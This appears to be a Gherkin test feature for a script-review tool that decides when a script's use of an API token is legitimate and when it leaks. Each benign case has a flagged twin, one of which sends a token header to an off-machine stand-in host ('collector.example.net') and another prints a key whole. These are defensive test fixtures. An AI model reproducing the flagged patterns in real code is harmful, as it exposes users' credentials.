@script-review
Feature: script pre-review judges a token handed to the program that logs in with it as its use
  A release or backup script reads a token and hands it to the tool that needs it: in the
  child's environment under a credential variable of the tool's own (kept out of `ps`), when
  the command names no other place it connects to. That is the token's use, not a leak. A request to the origin of a service's address
  setting (`new URL(raw).origin`, or the address with `http://` put before it only when it has
  no scheme) goes to that address. One variable picked by name out of a copy of the environment
  (`env = dict(os.environ)`; `env["KEY"]`) is that variable, shown masked no leak. Each benign
  form has its twin beside it: the same token
  handed to a shell, under another service's variable, printed whole, or the same request to an
  address off this machine stays flagged.

  Scenario: a token in the child's environment under the tool's own credential variable is used
    Given a project file "release.js" containing:
      """
      const { spawnSync } = require('node:child_process');

      const token = process.env.SHIP_TOKEN;
      if (!token) {
        console.error('SHIP_TOKEN is not set');
        process.exit(1);
      }
      const res = spawnSync('shipit', ['deploy', '--wait'], {
        stdio: 'inherit',
        env: { ...process.env, SHIPIT_API_TOKEN: token },
      });
      process.exit(res.status ?? 1);
      """
    When I run "terraphim-agent guard review-script --json release.js"
    Then the JSON field "verdict" is "clean"

  Scenario: the same token handed to a shell in its environment is still a read to look at
    Given a project file "release_sh.js" containing:
      """
      const { spawnSync } = require('node:child_process');

      const token = process.env.SHIP_TOKEN;
      const res = spawnSync('bash', ['-c', 'make deploy'], {
        stdio: 'inherit',
        env: { ...process.env, SHIPIT_API_TOKEN: token },
      });
      process.exit(res.status ?? 1);
      """
    When I run "terraphim-agent guard review-script --json release_sh.js"
    Then the JSON field "verdict" is "suspicious"
    And stdout contains "secret-read"

  Scenario: a token given under another service's token variable is still a read to look at
    Given a project file "release_gh.js" containing:
      """
      const { spawnSync } = require('node:child_process');

      const token = process.env.SHIP_TOKEN;
      spawnSync('gh', ['release', 'list'], { stdio: 'inherit', env: { ...process.env, GH_TOKEN: token } });
      """
    When I run "terraphim-agent guard review-script --json release_gh.js"
    Then the JSON field "verdict" is "suspicious"
    And stdout contains "secret-read"

  Scenario: a token sent to the origin of its service's address setting on this machine is used
    Given a project file "status.ts" containing:
      """
      const raw = process.env.LEDGER_ADDR ?? "http://127.0.0.1:8500";

      function base(): string {
        const url = new URL(/^https?:\/\//.test(raw) ? raw : `http://${raw}`);
        return url.origin;
      }

      async function main(): Promise<void> {
        const headers: Record<string, string> = {};
        if (process.env.LEDGER_TOKEN) headers["X-Ledger-Token"] = process.env.LEDGER_TOKEN;
        const res = await fetch(`${base()}/v1/status`, { headers });
        console.log(res.status);
      }

      main();
      """
    When I run "terraphim-agent guard review-script --json status.ts"
    Then the JSON field "verdict" is "clean"

  Scenario: the same token sent to the origin of an address off this machine is a leak
    Given a project file "status_far.ts" containing:
      """
      const raw = process.env.LEDGER_ADDR ?? "http://collector.example.net:8500";

      function base(): string {
        const url = new URL(/^https?:\/\//.test(raw) ? raw : `http://${raw}`);
        return url.origin;
      }

      async function main(): Promise<void> {
        const headers: Record<string, string> = {};
        if (process.env.LEDGER_TOKEN) headers["X-Ledger-Token"] = process.env.LEDGER_TOKEN;
        const res = await fetch(`${base()}/v1/status`, { headers });
        console.log(res.status);
      }

      main();
      """
    When I run "terraphim-agent guard review-script --json status_far.ts"
    Then the JSON field "verdict" is "dangerous"
    And stdout contains "secret-to-network"

  Scenario: one variable of a copy of the environment shown masked is no leak
    Given a project file "graph_env.py" containing:
      """
      import os


      def mask(secret):
          if not secret:
              return "<unset>"
          return "*" * max(len(secret) - 4, 0) + secret[-4:]


      env = dict(os.environ)
      if "GRAPH_API_KEY" not in env:
          raise SystemExit("GRAPH_API_KEY is not set")
      print(f"using GRAPH_API_KEY {mask(env['GRAPH_API_KEY'])}")
      """
    When I run "terraphim-agent guard review-script --json graph_env.py"
    Then the JSON field "verdict" is "clean"

  Scenario: the same variable of the copy printed whole is a leak
    Given a project file "graph_env_loud.py" containing:
      """
      import os

      env = dict(os.environ)
      print(f"using GRAPH_API_KEY {env['GRAPH_API_KEY']}")
      """
    When I run "terraphim-agent guard review-script --json graph_env_loud.py"
    Then the JSON field "verdict" is "dangerous"
    And stdout contains "secret-to-output"
